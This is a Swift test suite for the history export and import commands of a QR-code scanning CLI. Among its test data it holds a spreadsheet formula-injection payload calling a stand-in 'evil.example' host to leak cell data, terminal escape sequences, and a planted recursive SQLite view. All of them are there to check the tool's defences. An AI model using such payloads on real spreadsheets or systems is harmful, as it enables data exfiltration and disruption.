// SPDX-License-Identifier: GPL-3.0-or-later
import Foundation
import SQLiteHistory
import SaomaCore
import SaomaTestSupport
import Testing

@testable import SaomaCLI

/// A private home for `saoma` (its `$XDG_DATA_HOME` holds the history) and a folder for export files.
private struct HistoryHome {
    let home: TemporaryFolder
    var folder: String { home.path }
    var dataHome: String { home.path("data") }
    var database: String { dataHome + "/saoma/history.db" }
    func path(_ name: String) -> String { home.path(name) }

    init() throws {
        home = try TemporaryFolder(prefix: "saoma-history-cli")
        try FileManager.default.createDirectory(atPath: dataHome, withIntermediateDirectories: true)
    }

    func remove() { try? FileManager.default.removeItem(atPath: folder) }

    /// Runs `saoma ARGUMENTS` in this home (another data home when given); returns status,
    /// standard output and error.
    @discardableResult
    func saoma(_ arguments: [String], dataHome: String? = nil) throws -> (status: Int32, out: String, err: String) {
        let run = try SpawnedCommand.run(arguments, environment: dataHome.map { ["XDG_DATA_HOME": $0] } ?? [:], home: home)
        return (run.status ?? -1, run.output, run.stderr)
    }

    /// A history filled with rows that stress export: CJK, quotes, line breaks, controls, binary.
    func fill() throws -> [HistoryRecord] {
        let store = try HistoryStore(path: database)
        let t0: Int64 = 1_764_495_000_000
        let texts = ["扫码轻触小蓝点", "say \"hi\",\r\nthen go", "\u{1B}]0;evil\u{07}title", "https://example.org/?a=1&b=2", "<b>bold</b>"]
        for (i, text) in texts.enumerated() {
            try store.record(
                HistoryRecord(timeMilliseconds: t0 + Int64(i) * 60_000, source: .camera, format: "QR", text: text, bytes: Array(text.utf8)))
        }
        guard
            case .added(let id) = try store.record(
                HistoryRecord(timeMilliseconds: t0 + 600_000, source: .photo, format: "CODE-128", text: nil, bytes: [0, 0x80, 0xFF]))
        else { return [] }
        try store.setLabel("shelf, \"B\"", id: id)
        try store.setStarred(true, id: id)
        return try store.all()
    }
}

/// The rows without ids and photo paths (what an export carries).
private func exported(_ records: [HistoryRecord]) -> [HistoryRecord] {
    records.map {
        var r = $0
        r.id = nil
        r.photoPath = nil
        return r
    }
}

@Suite("saoma history", .serialized)
struct HistoryCommandTests {
    @Test("export then import into an empty history gives the same rows", arguments: ["all.csv", "all.jsonl"])
    func exportImportRoundTrip(name: String) throws {
        let home = try HistoryHome()
        defer { home.remove() }
        let original = try home.fill()
        #expect(original.count == 6)
        let file = home.path(name)
        let export = try home.saoma(["history", "export", file])
        #expect(export.status == 0, "\(export.err)")
        let emptyHome = home.folder + "/empty"
        let first = try home.saoma(["history", "import", file], dataHome: emptyHome)
        #expect(first.status == 0, "\(first.err)")
        #expect(first.out.contains("6"))
        let again = try home.saoma(["history", "import", file], dataHome: emptyHome)
        #expect(again.status == 0)
        let imported = try HistoryStore(path: emptyHome + "/saoma/history.db").all()
        #expect(exported(imported) == exported(original))
    }

    /// The rows of the CSV file at `path` as Python's csv module reads them (a reader that is not
    /// Saoma's), each by its header's names.
    static func pythonCSVRows(_ path: String) throws -> [[String: String]] {
        let script = """
            import csv, json, sys
            with open(sys.argv[1], newline='', encoding='utf-8') as f:
                print(json.dumps(list(csv.DictReader(f))))
            """
        let data = Data(try runTool("/usr/bin/python3", ["-c", script, path]).utf8)
        return try #require(try JSONSerialization.jsonObject(with: data) as? [[String: String]])
    }

    @Test("the CSV export reads back with Python's csv module")
    func csvReadByPython() throws {
        let home = try HistoryHome()
        defer { home.remove() }
        let original = try home.fill()
        let file = home.path("h.csv")
        #expect(try home.saoma(["history", "export", file]).status == 0)
        let rows = try Self.pythonCSVRows(file)
        #expect(rows.count == original.count)
        for (row, record) in zip(rows, original) {
            #expect(row["text"] == (record.text ?? ""))
            #expect(row["bytes_hex"] == Symbol.hex(record.bytes))
            #expect(row["format"] == record.format)
            #expect(row["source"] == record.source.rawValue)
            #expect(row["label"] == (record.label ?? ""))
            #expect(row["starred"] == (record.starred ? "true" : "false"))
            #expect(row["time"] == HistoryTime.string(milliseconds: record.timeMilliseconds))
        }
    }

    @Test("listing: newest first, search, limit, JSON, control characters shown safely")
    func listing() throws {
        let home = try HistoryHome()
        defer { home.remove() }
        _ = try home.fill()
        let all = try home.saoma(["history"])
        #expect(all.status == 0)
        let lines = all.out.split(separator: "\n", omittingEmptySubsequences: false).dropLast()
        #expect(lines.count == 6)
        #expect(lines.first?.contains("★  [shelf, \"B\"]") == true)
        #expect(lines.first?.contains("(binary, hex) 0080ff") == true)
        #expect(!all.out.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" })
        #expect(all.out.contains("␛]0;evil␇title"))
        #expect(all.out.contains("say \"hi\",␍␊then go"))
        let search = try home.saoma(["history", "--search", "轻触小"])
        #expect(search.out.split(separator: "\n").count == 1 && search.out.contains("扫码轻触小蓝点"))
        let short = try home.saoma(["history", "--search", "蓝"])
        #expect(short.out.split(separator: "\n").count == 1)
        let limited = try home.saoma(["history", "--limit", "2", "--json"])
        #expect(limited.out.split(separator: "\n").count == 2)
        #expect(limited.out.hasPrefix("{\"time\":\"2025-11-30T09:40:00.000Z\",\"source\":\"photo\",\"format\":\"CODE-128\",\"text\":null"))
    }

    @Test("scan --record adds each code once; clear needs --yes")
    func recordAndClear() throws {
        let home = try HistoryHome()
        defer { home.remove() }
        let image = home.path("code.png")
        try runTool("/usr/bin/qrencode", ["-s", "6", "-o", image, "recorded 扫码"])
        #expect(try home.saoma(["scan", "--record", image]).status == 0)
        #expect(try home.saoma(["scan", "--record", image]).status == 0)
        let rows = try HistoryStore(path: home.database).all()
        #expect(rows.map(\.displayText) == ["recorded 扫码"])
        #expect(rows.first?.source == .cli)
        #expect(rows.first?.photoPath == image)
        let refused = try home.saoma(["history", "clear"])
        #expect(refused.status == 2 && refused.err.contains("--yes"))
        #expect(try HistoryStore(path: home.database).count() == 1)
        #expect(try home.saoma(["history", "clear", "--yes"]).status == 0)
        #expect(try HistoryStore(path: home.database).count() == 0)
    }

    /// Bad uses: each exits 2 with one line naming the problem.
    static let failures: [(arguments: [String], message: String)] = [
        (["history", "--bogus"], "unknown option"),
        (["history", "--limit", "0"], "--limit"),
        (["history", "--search"], "--search"),
        (["history", "frobnicate"], "unknown history command"),
        (["history", "export"], "needs one FILE"),
        (["history", "export", "out.txt"], ".csv or .jsonl"),
        (["history", "import", "/nonexistent/x.csv"], "No such file"),
        (["history", "import", "DIR/folder.csv"], "not a regular file"),
        (["history", "import", "DIR/bad.csv"], "line 2"),
        (["history", "import", "DIR/evil\u{1B}[2J.jsonl"], "␛[2J"),
        (["history", "export", "DIR/exists.csv"], "--force"),
        (["history", "clear", "--now"], "unknown option"),
    ]

    @Test("errors exit 2 with one line", arguments: failures)
    func errors(arguments: [String], message: String) throws {
        let home = try HistoryHome()
        defer { home.remove() }
        try FileManager.default.createDirectory(atPath: home.path("folder.csv"), withIntermediateDirectories: true)
        try Data("time,source,format,text,bytes_hex,label,starred\r\nnot-a-time,camera,QR,x,,,false\r\n".utf8).write(
            to: URL(fileURLWithPath: home.path("bad.csv")))
        try Data("{\"time\":1}\n".utf8).write(to: URL(fileURLWithPath: home.path("evil\u{1B}[2J.jsonl")))
        try Data("keep me".utf8).write(to: URL(fileURLWithPath: home.path("exists.csv")))
        let result = try home.saoma(arguments.map { $0.replacingOccurrences(of: "DIR", with: home.folder) })
        #expect(result.status == 2)
        #expect(result.err.hasSuffix("\n") && result.err.split(separator: "\n").count == 1, "\(result.err)")
        #expect(result.err.contains(message), "\(result.err)")
        #expect(!result.err.unicodeScalars.contains { $0.value == 0x1B })
        #expect(try String(contentsOfFile: home.path("exists.csv"), encoding: .utf8) == "keep me")
    }

    @Test("a damaged database is moved aside with one line, and the command goes on")
    func damagedDatabase() throws {
        let home = try HistoryHome()
        defer { home.remove() }
        try FileManager.default.createDirectory(atPath: home.dataHome + "/saoma", withIntermediateDirectories: true)
        try Data("not a database".utf8).write(to: URL(fileURLWithPath: home.database))
        let result = try home.saoma(["history"])
        #expect(result.status == 0)
        #expect(result.err.contains("history.db.corrupt-"))
        let files = try FileManager.default.contentsOfDirectory(atPath: home.dataHome + "/saoma")
        let aside = try #require(files.first { $0.hasPrefix("history.db.corrupt-") })
        #expect(try String(contentsOfFile: home.dataHome + "/saoma/" + aside, encoding: .utf8) == "not a database")
    }

    @Test("export without --force never replaces a file that appears while the history is read", arguments: ["late.csv", "late.jsonl"])
    func exportRace(name: String) throws {
        let home = try HistoryHome()
        defer { home.remove() }
        let target = home.path(name)
        var failure: String?
        do {
            try HistoryCommand.export(to: target, force: false) { () throws(HistoryStoreError) -> [HistoryRecord] in
                // Another program writes the file after the check, before Saoma puts its own in place.
                try? Data("theirs".utf8).write(to: URL(fileURLWithPath: target))
                return [HistoryRecord(timeMilliseconds: 0, source: .cli, format: "QR", text: "mine", bytes: Array("mine".utf8))]
            }
        } catch let error as HistoryCommand.Failure {
            failure = error.message
        }
        #expect(failure?.contains("--force") == true, "\(String(describing: failure))")
        #expect(try String(contentsOfFile: target, encoding: .utf8) == "theirs")
        #expect(try FileManager.default.contentsOfDirectory(atPath: home.folder).filter { $0.hasSuffix(".tmp") }.isEmpty)
    }

    @Test("export --force replaces an existing file")
    func exportForce() throws {
        let home = try HistoryHome()
        defer { home.remove() }
        _ = try home.fill()
        let file = home.path("all.csv")
        try Data("old".utf8).write(to: URL(fileURLWithPath: file))
        #expect(try home.saoma(["history", "export", file, "--force"]).status == 0)
        #expect(try String(contentsOfFile: file, encoding: .utf8).hasPrefix(HistoryCSV.header))
    }

    @Test("formula payloads are exported spreadsheet-safe, and imported back exactly")
    func formulaRoundTrip() throws {
        let home = try HistoryHome()
        defer { home.remove() }
        let payloads = [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'kept", "a\u{0}b",
        ]
        do {
            let store = try HistoryStore(path: home.database)
            for (i, text) in payloads.enumerated() {
                try store.record(
                    HistoryRecord(
                        timeMilliseconds: 1_764_495_000_000 + Int64(i) * 60_000, source: .camera, format: "QR", text: text,
                        bytes: Array(text.utf8), label: text))
            }
        }
        let original = try HistoryStore(path: home.database).all()
        let file = home.path("h.csv")
        #expect(try home.saoma(["history", "export", file]).status == 0)
        let cells = try Self.pythonCSVRows(file).map { [$0["text"] ?? "", $0["label"] ?? ""] }
        #expect(cells.count == payloads.count)
        for pair in cells {
            for cell in pair where ["=", "+", "-", "@", "\t", "\r"].contains(cell.first.map(String.init) ?? "") {
                Issue.record("a live formula cell: \(cell.debugDescription)")
            }
        }
        #expect(cells.first?.first?.hasPrefix("'=HYPERLINK(") == true)
        let emptyHome = home.folder + "/empty"
        #expect(try home.saoma(["history", "import", file], dataHome: emptyHome).status == 0)
        #expect(exported(try HistoryStore(path: emptyHome + "/saoma/history.db").all()) == exported(original))
    }

    /// Import files that must add nothing: each refused with its line, the history unchanged.
    static let refusedImports: [(name: String, contents: String, message: String)] = [
        (
            "year0.csv", "time,source,format,text,bytes_hex,label,starred\r\n0000-01-01T00:00:00Z,camera,QR,x,,,false\r\n",
            "line 2: the time is outside"
        ),
        (
            "negative.csv", "time,source,format,text,bytes_hex,label,starred\r\n-9999-01-01T00:00:00Z,camera,QR,x,,,false\r\n",
            "line 2: the time is outside"
        ),
        (
            "far.jsonl", "{\"time\":\"+292278994-08-17T07:12:55.807Z\",\"source\":\"camera\",\"format\":\"QR\",\"text\":\"x\"}\n",
            "line 1: the time is outside"
        ),
        (
            "late-bad-row.csv",
            "time,source,format,text,bytes_hex,label,starred\r\n"
                + String(repeating: "2025-11-30T09:30:00Z,camera,QR,fine,,,false\r\n", count: 500)
                + "2025-11-30T09:30:00Z,camera,QR,x,,,maybe\r\n",
            "line 502: starred"
        ),
        ("no-header.csv", String(repeating: "2025-11-30T09:30:00Z,camera,QR,x,,,false\r\n", count: 2000), "line 1: the header"),
    ]

    @Test("an import with a bad row anywhere adds nothing and names the line", arguments: refusedImports)
    func refusedImport(name: String, contents: String, message: String) throws {
        let home = try HistoryHome()
        defer { home.remove() }
        let before = try home.fill()
        let file = home.path(name)
        try Data(contents.utf8).write(to: URL(fileURLWithPath: file))
        let result = try home.saoma(["history", "import", file])
        #expect(result.status == 2)
        #expect(result.err.contains(message), "\(result.err)")
        #expect(result.err.split(separator: "\n").count == 1)
        #expect(try HistoryStore(path: home.database).all() == before)
    }

    @Test("a FIFO is refused without waiting for a writer")
    func importFIFO() throws {
        let home = try HistoryHome()
        defer { home.remove() }
        let fifo = home.path("pipe.csv")
        #expect(mkfifo(fifo, 0o600) == 0)
        let result = try home.saoma(["history", "import", fifo])
        #expect(result.status == 2 && result.err.contains("not a regular file"), "\(result.err)")
    }

    @Test("a symbolic link for history.db is refused with one line; a planted view is moved aside")
    func hostileDatabase() throws {
        let home = try HistoryHome()
        defer { home.remove() }
        try FileManager.default.createDirectory(atPath: home.dataHome + "/saoma", withIntermediateDirectories: true)
        let other = home.path("other.db")
        try runTool("/usr/bin/python3", ["-c", "import sqlite3, sys; sqlite3.connect(sys.argv[1]).execute('CREATE TABLE t(x)')", other])
        let before = try Data(contentsOf: URL(fileURLWithPath: other))
        #expect(symlink(other, home.database) == 0)
        let linked = try home.saoma(["history"])
        #expect(linked.status == 2 && linked.err.contains("symbolic link"), "\(linked.err)")
        #expect(linked.err.split(separator: "\n").count == 1)
        #expect(try Data(contentsOf: URL(fileURLWithPath: other)) == before)
        try FileManager.default.removeItem(atPath: home.database)

        _ = try home.fill()
        try runTool(
            "/usr/bin/python3",
            [
                "-c", "import sqlite3, sys; sqlite3.connect(sys.argv[1]).executescript(sys.argv[2])", home.database,
                "CREATE VIEW spin AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT count(*) FROM n;",
            ])
        let planted = try home.saoma(["history"])
        #expect(planted.status == 0)
        #expect(planted.err.contains("moved to") && planted.err.contains("history.db.corrupt-"), "\(planted.err)")
        #expect(planted.out.isEmpty)
    }
}
